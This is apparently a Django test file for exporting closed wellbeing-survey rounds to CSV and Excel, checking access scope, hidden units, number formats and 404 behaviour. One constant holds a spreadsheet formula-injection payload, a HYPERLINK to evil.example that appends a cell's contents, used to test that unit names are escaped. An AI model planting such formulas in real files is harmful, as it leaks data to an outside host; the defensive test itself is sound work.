"""The export of a closed round (kasam.pulse.export_views): CSV and XLSX hold exactly what the gate's
viewer_nodes gives the viewer – row for row, hidden nodes without figures – and nothing else; a round
that is not closed or lies outside the viewer's scope is "not found"; text cells cannot run as
formulas."""

import csv
import io
import re
from datetime import date

import openpyxl
import pytest
from django.urls import reverse
from django.utils import translation
from test_results import add_staff, build_round

from kasam.org.models import Unit
from kasam.pulse import actions, results
from kasam.pulse.models import Programme, Round

INJECTION = '=HYPERLINK("https://evil.example/?d="&A1,"Klicka")'
TREE_ORDER = ["SOC", "AO", "AO-HT1", "AO-HT1-A", "AO-SB1", "IFO", "IFO-BU"]
# The round asks beg1, han1, men1 and the health question: three dimensions and self-rated health.
DIMENSIONS = ["begriplighet", "hanterbarhet", "meningsfullhet", "halsa"]


@pytest.fixture(autouse=True)
def _pulse_settings(settings):
    settings.KASAM_PULSE_K = 5
    settings.KASAM_TOKEN_KEY = "test-token-key"
    settings.LANGUAGE_CODE = "en"


@pytest.fixture
def closed(personas):
    add_staff()
    round = build_round()
    actions.close_round(round)
    return Round.objects.get(pk=round.pk)


def url(round: Round, fmt: str) -> str:
    return reverse("pulse:export", kwargs={"round_id": round.pk, "fmt": fmt})


def download(client, user, round: Round, fmt: str):
    client.force_login(user)
    with translation.override("en"):
        response = client.get(url(round, fmt), HTTP_ACCEPT_LANGUAGE="en")
    assert response.status_code == 200, response.status_code
    return response


def csv_table(response) -> list[list[str]]:
    text = response.content.decode("utf-8")
    assert text.startswith("\ufeff")
    return list(csv.reader(io.StringIO(text[1:]), delimiter=";"))


def xlsx_table(response) -> list[list]:
    sheet = openpyxl.load_workbook(io.BytesIO(response.content)).active
    return [[cell.value for cell in row] for row in sheet.iter_rows()]


def expected(round: Round, user) -> list[results.NodeView]:
    return results.viewer_nodes(results.load_round(round), results.pulse_scope(user))


def number(cell) -> float | None:
    """A CSV cell (decimal comma) or an XLSX cell as a number; empty → None."""
    if cell is None or cell == "":
        return None
    if isinstance(cell, str):
        assert "." not in cell, cell
        return float(cell.replace(",", "."))
    assert isinstance(cell, int | float), cell
    return float(cell)


def assert_rows_are_the_gates(table: list[list], nodes: list[results.NodeView], names: dict[str, str]):
    header, *rows = table
    assert header[:6] == [
        "Unit id",
        "Unit",
        "Parent unit id",
        "Shown",
        "Respondents",
        "Response rate (%)",
    ]
    assert len(header) == 6 + 2 * len(DIMENSIONS)
    assert [row[0] for row in rows] == [node.unit for node in nodes]
    for row, node in zip(rows, nodes, strict=True):
        assert row[1] == names[node.unit]
        assert (row[2] or None) == node.parent
        assert row[3] == ("Yes" if node.shown else "No")
        figures = [number(cell) for cell in row[4:]]
        if not node.shown:
            assert figures == [None] * len(figures), node.unit
            continue
        assert figures[0] == node.respondents
        assert figures[1] == node.response_rate
        for i, dimension in enumerate(DIMENSIONS):
            result = node.dimensions[dimension]
            assert figures[2 + 2 * i] == pytest.approx(result.index, abs=0.05), (node.unit, dimension)
            assert figures[3 + 2 * i] == pytest.approx(result.favourable_pct, abs=0.05), (
                node.unit,
                dimension,
            )


@pytest.mark.parametrize(
    ("username", "units"),
    [
        ("halsostrateg", TREE_ORDER),
        ("hr", TREE_ORDER),
        ("omradeschef", ["AO", "AO-HT1", "AO-HT1-A", "AO-SB1"]),
        ("enhetschef", ["AO-HT1", "AO-HT1-A"]),
        ("medarbetare", ["AO-HT1", "AO-HT1-A"]),
        ("dialogcoach", ["AO-SB1", "IFO-BU"]),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_file_holds_exactly_the_gates_nodes_for_the_viewer(
    client, personas, closed, username, units, fmt
):
    user = personas[username]
    nodes = expected(closed, user)
    assert [node.unit for node in nodes] == units
    response = download(client, user, closed, fmt)
    table = csv_table(response) if fmt == "csv" else xlsx_table(response)
    names = dict(Unit.objects.values_list("pk", "name"))
    assert_rows_are_the_gates(table, nodes, names)


def test_hidden_nodes_carry_no_figures_in_either_format(client, personas, closed):
    # AO-SB1's 4 respondents were re-pooled into SOC at close, with IFO-BU's 6 (the root's pool):
    # those units, IFO and AO-HT1's team show nothing of their own.
    hidden = {"AO-HT1-A", "AO-SB1", "IFO", "IFO-BU"}
    user = personas["halsostrateg"]
    for table in (
        csv_table(download(client, user, closed, "csv")),
        xlsx_table(download(client, user, closed, "xlsx")),
    ):
        rows = {row[0]: row for row in table[1:]}
        for unit in hidden:
            assert rows[unit][3] == "No"
            assert all(cell in ("", None) for cell in rows[unit][4:]), unit
        for unit in set(rows) - hidden:
            assert rows[unit][3] == "Yes"
            assert all(cell not in ("", None) for cell in rows[unit][4:]), unit
    # The coach's whole scope is hidden: the file holds names and "no", no figure at all.
    table = csv_table(download(client, personas["dialogcoach"], closed, "csv"))
    assert [row[3:] for row in table[1:]] == [["No"] + [""] * (2 + 2 * len(DIMENSIONS))] * 2


def test_numbers_are_swedish_in_csv_and_numbers_in_xlsx(client, personas, closed):
    user = personas["hr"]
    node = next(n for n in expected(closed, user) if n.unit == "AO-HT1")
    # AO-HT1's ten answered han1 = 4 and men1 = 4 → index 75, 100 % favourable.
    assert node.dimensions["hanterbarhet"].index == pytest.approx(75)
    row = next(r for r in csv_table(download(client, user, closed, "csv")) if r[0] == "AO-HT1")
    column = 6 + 2 * DIMENSIONS.index("hanterbarhet")
    assert row[column : column + 2] == ["75,0", "100,0"]
    assert row[4] == "10"
    xrow = next(r for r in xlsx_table(download(client, user, closed, "xlsx")) if r[0] == "AO-HT1")
    assert xrow[column : column + 2] == [75.0, 100.0]
    assert xrow[4] == 10 and isinstance(xrow[4], int)


def test_the_headers_name_the_dimensions_in_the_users_language(client, personas, closed):
    header = csv_table(download(client, personas["hr"], closed, "csv"))[0]
    assert header[6:8] == ["Comprehensibility: index (0–100)", "Comprehensibility: favourable (%)"]
    assert header[-2:] == ["Self-rated health: index (0–100)", "Self-rated health: favourable (%)"]


def test_comments_are_not_exported(client, personas, closed):
    user = personas["hr"]
    assert results.comments(results.load_round(closed), {"SOC"})  # there are comments on the page
    text = download(client, user, closed, "csv").content.decode("utf-8")
    assert "Bra stämning" not in text and "[namn]" not in text
    cells = [str(c) for row in xlsx_table(download(client, user, closed, "xlsx")) for c in row]
    assert not any("Bra stämning" in c or "[namn]" in c for c in cells)


def test_content_types_and_file_names(client, personas, closed):
    user = personas["hr"]
    name = f"puls-2026-11-20-omgang-{closed.pk}"
    response = download(client, user, closed, "csv")
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"] == f'attachment; filename="{name}.csv"'
    assert "no-store" in response["Cache-Control"]
    response = download(client, user, closed, "xlsx")
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    assert response["Content-Disposition"] == f'attachment; filename="{name}.xlsx"'
    assert response.content.startswith(b"PK")


def test_a_unit_name_cannot_run_as_a_formula(client, personas, closed):
    Unit.objects.filter(pk="IFO-BU").update(name=INJECTION)
    user = personas["hr"]
    row = next(r for r in csv_table(download(client, user, closed, "csv")) if r[0] == "IFO-BU")
    assert row[1] == "'" + INJECTION
    sheet = openpyxl.load_workbook(io.BytesIO(download(client, user, closed, "xlsx").content)).active
    cell = next(row[1] for row in sheet.iter_rows(min_row=2) if row[0].value == "IFO-BU")
    assert cell.value == "'" + INJECTION
    assert cell.data_type == "s"  # a string, not a formula


def test_a_round_outside_the_viewers_scope_is_not_found(client, personas, closed):
    programme = Programme.objects.create(name="Puls IFO", root_unit_id="IFO")
    ifo = Round.objects.create(
        programme=programme,
        number=1,
        opens_on=date(2026, 11, 2),
        closes_on=date(2026, 11, 20),
        statement_ids=["beg1", "han1"],
    )
    actions.open_round(ifo, date(2026, 11, 2))
    actions.close_round(ifo)
    for username, status in [("enhetschef", 404), ("omradeschef", 404), ("dialogcoach", 200), ("hr", 200)]:
        client.force_login(personas[username])
        for fmt in ("csv", "xlsx"):
            assert client.get(url(ifo, fmt)).status_code == status, (username, fmt)
    # Not allowed answers exactly like not existing.
    client.force_login(personas["enhetschef"])
    outside = client.get(url(ifo, "csv"))
    missing = client.get(reverse("pulse:export", kwargs={"round_id": 999999, "fmt": "csv"}))
    assert outside.status_code == missing.status_code == 404
    # The pages differ only in their per-request CSRF token and the address asked for.
    token = re.compile(rb'name="csrfmiddlewaretoken" value="[^"]+"')
    outside_page = token.sub(b"", outside.content).replace(f"/{ifo.pk}.csv".encode(), b"/999999.csv")
    assert outside_page == token.sub(b"", missing.content)


def test_a_round_that_is_not_closed_is_not_found(client, personas):
    add_staff()
    open_round = build_round()
    planned = Round.objects.create(
        programme=open_round.programme,
        number=2,
        opens_on=date(2026, 12, 1),
        closes_on=date(2026, 12, 20),
        statement_ids=["beg1"],
    )
    client.force_login(personas["hr"])
    for round in (open_round, planned):
        for fmt in ("csv", "xlsx"):
            assert client.get(url(round, fmt)).status_code == 404


def test_anonymous_visitors_are_sent_to_the_login_page(client, closed):
    for fmt in ("csv", "xlsx"):
        response = client.get(url(closed, fmt))
        assert response.status_code == 302
        assert response["Location"].startswith(reverse("account_login"))


def test_only_get_and_only_csv_or_xlsx(client, personas, closed):
    client.force_login(personas["hr"])
    assert client.post(url(closed, "csv")).status_code == 405
    assert client.get(f"/puls/export/{closed.pk}.json").status_code == 404


def test_the_pages_link_to_the_files_of_the_round_shown(client, personas, closed):
    client.force_login(personas["enhetschef"])
    with translation.override("en"):
        overview = client.get(reverse("pulse:overview"), HTTP_ACCEPT_LANGUAGE="en").content.decode()
        dashboard = client.get(
            reverse("pulse:dashboard", kwargs={"unit_id": "AO-HT1"}), HTTP_ACCEPT_LANGUAGE="en"
        ).content.decode()
    for content in (overview, dashboard):
        assert f'href="{url(closed, "csv")}"' in content
        assert f'href="{url(closed, "xlsx")}"' in content
        assert "Download (CSV)" in content and "Download (Excel)" in content
        assert 'aria-describedby="export-note"' in content and 'id="export-note"' in content


def test_no_link_while_the_round_is_open(client, personas):
    add_staff()
    open_round = build_round()
    client.force_login(personas["hr"])
    with translation.override("en"):
        content = client.get(reverse("pulse:overview"), HTTP_ACCEPT_LANGUAGE="en").content.decode()
    assert open_round.status == Round.Status.OPEN
    assert "/puls/export/" not in content
